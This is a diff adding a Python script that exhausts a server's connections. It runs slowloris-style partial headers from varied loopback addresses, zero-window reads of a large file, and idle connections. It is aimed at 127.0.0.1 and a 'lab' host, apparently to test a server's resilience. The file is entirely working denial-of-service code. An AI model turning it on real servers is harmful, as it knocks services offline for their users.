@@ -1,0 +1,68 @@
+"""Holds connections open as no client of good will does, where no tool at hand does it.
+
+usage: hold.py zero-window|sources|idle PORT CONNECTIONS PER-SECOND SECONDS
+
+    zero-window   asks for a large file with the smallest receive buffer and reads nothing
+    sources       sends a byte of a request head every five seconds, each connection from its own 127.x.y.z
+    idle          sends nothing
+"""
+import asyncio
+import random
+import socket
+import sys
+import time
+
+
+async def hold(what, port, until):
+    loop = asyncio.get_running_loop()
+    while time.monotonic() < until:
+        with socket.socket() as s:
+            s.setblocking(False)
+            try:
+                if what == "zero-window":
+                    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
+                if what == "sources":
+                    s.bind((f"127.{random.randrange(1, 255)}.{random.randrange(1, 255)}.{random.randrange(1, 255)}", 0))
+                await asyncio.wait_for(loop.sock_connect(s, ("127.0.0.1", port)), 10)
+                if what == "zero-window":
+                    await loop.sock_sendall(s, b"GET /large HTTP/1.1\r\nHost: lab\r\n\r\n")
+                    await ended(loop, s, until, read=False)
+                elif what == "sources":
+                    await loop.sock_sendall(s, b"GET / HTTP/1.1\r\nHost: lab\r\nX-Slow: ")
+                    await ended(loop, s, until, send=b"a")
+                else:
+                    await ended(loop, s, until)
+            except (OSError, asyncio.TimeoutError):
+                await asyncio.sleep(1)
+
+
+async def ended(loop, s, until, send=None, read=True):
+    """Returns when the other side has ended the connection, or the attack is over."""
+    while time.monotonic() < until:
+        await asyncio.sleep(5 if send else 1)
+        if send:
+            await loop.sock_sendall(s, send)
+        if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
+            return
+        if read:
+            try:
+                if not s.recv(4096):
+                    return
+            except BlockingIOError:
+                pass
+
+
+async def main(what, port, connections, rate, seconds):
+    until = time.monotonic() + seconds
+    holders = []
+    for _ in range(connections):
+        holders.append(asyncio.create_task(hold(what, port, until)))
+        await asyncio.sleep(1 / rate)
+        if time.monotonic() >= until:
+            break
+    await asyncio.sleep(max(0, until - time.monotonic()))
+    for holder in holders:
+        holder.cancel()
+
+
+asyncio.run(main(sys.argv[1], *map(int, sys.argv[2:])))
